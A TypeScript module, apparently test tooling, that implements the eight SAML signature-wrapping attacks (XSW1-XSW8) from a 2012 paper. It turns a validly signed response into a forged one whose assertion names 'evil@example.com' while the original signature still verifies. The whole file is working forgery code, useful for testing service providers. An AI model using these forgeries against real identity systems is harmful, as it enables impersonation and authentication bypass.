/**
 * The signature-wrapping family XSW1-XSW8 (Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be", USENIX Security 2012), applied to a validly signed response: in
 * each, a forged assertion naming `evil@example.com` is where a naive service provider
 * reads, while the original signed element sits where the signature check finds it.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export type WrappingAttack = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

/** Which signature each shape abuses: XSW1-2 the Response's, XSW3-8 the Assertion's. */
export const WRAPPING_SIGNS: Record<WrappingAttack, 'response' | 'assertion'> = {
  XSW1: 'response',
  XSW2: 'response',
  XSW3: 'assertion',
  XSW4: 'assertion',
  XSW5: 'assertion',
  XSW6: 'assertion',
  XSW7: 'assertion',
  XSW8: 'assertion',
};

export function wrap(signedXml: string, attack: WrappingAttack): string {
  const document = new DOMParser().parseFromString(signedXml, 'text/xml');
  const response = document.documentElement;
  const assertion = first(response, ASSERTION, 'Assertion');
  switch (attack) {
    case 'XSW1': {
      // The original Response goes inside the Signature; the root becomes a forged Response.
      const original = response.cloneNode(true) as Element;
      removeChildSignature(original);
      response.setAttribute('ID', '_forged-response');
      response.replaceChild(forged(assertion), assertion);
      first(response, DSIG, 'Signature').appendChild(original);
      break;
    }
    case 'XSW2': {
      // The original Response goes before the Signature, as a sibling of the forged content.
      const original = response.cloneNode(true) as Element;
      removeChildSignature(original);
      response.setAttribute('ID', '_forged-response');
      response.replaceChild(forged(assertion), assertion);
      response.insertBefore(original, first(response, DSIG, 'Signature'));
      break;
    }
    case 'XSW3':
      // A forged assertion before the signed one.
      response.insertBefore(forged(assertion), assertion);
      break;
    case 'XSW4': {
      // The forged assertion replaces the signed one, which becomes its child.
      const evil = forged(assertion);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5': {
      // The signed assertion's values are changed in place; an unchanged copy is appended.
      const copy = assertion.cloneNode(true) as Element;
      setNameId(assertion, 'evil@example.com');
      response.appendChild(copy);
      break;
    }
    case 'XSW6': {
      // As XSW5, with the unchanged copy inside the forged assertion's Signature.
      const copy = assertion.cloneNode(true) as Element;
      removeChildSignature(copy);
      setNameId(assertion, 'evil@example.com');
      first(assertion, DSIG, 'Signature').appendChild(copy);
      break;
    }
    case 'XSW7': {
      // The signed assertion moves into an Extensions element; a forged one takes its place.
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
      const evil = forged(assertion);
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      response.insertBefore(extensions, first(response, PROTOCOL, 'Status'));
      break;
    }
    case 'XSW8': {
      // The forged assertion keeps the Signature, with the original (unsigned) inside an Object.
      const evil = forged(assertion);
      const signature = first(assertion, DSIG, 'Signature').cloneNode(true) as Element;
      const object = document.createElementNS(DSIG, 'ds:Object');
      const original = assertion.cloneNode(true) as Element;
      removeChildSignature(original);
      object.appendChild(original);
      signature.appendChild(object);
      evil.insertBefore(signature, first(evil, ASSERTION, 'Subject'));
      response.replaceChild(evil, assertion);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

/** A copy of `assertion` with its signature removed, another ID and the attacker's NameID. */
function forged(assertion: Element): Element {
  const evil = assertion.cloneNode(true) as Element;
  removeChildSignature(evil);
  evil.setAttribute('ID', '_forged-assertion');
  setNameId(evil, 'evil@example.com');
  return evil;
}

function setNameId(assertion: Element, value: string): void {
  const nameId = assertion.getElementsByTagNameNS(ASSERTION, 'NameID')[0];
  if (!nameId) throw new Error('no NameID');
  nameId.textContent = value;
}

function removeChildSignature(element: Element): void {
  for (let node = element.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).localName === 'Signature') {
      element.removeChild(node);
      return;
    }
  }
}

function first(parent: Element, namespace: string, localName: string): Element {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    const element = node as Element;
    if (node.nodeType === 1 && element.namespaceURI === namespace && element.localName === localName) return element;
  }
  throw new Error(`no ${localName} child`);
}
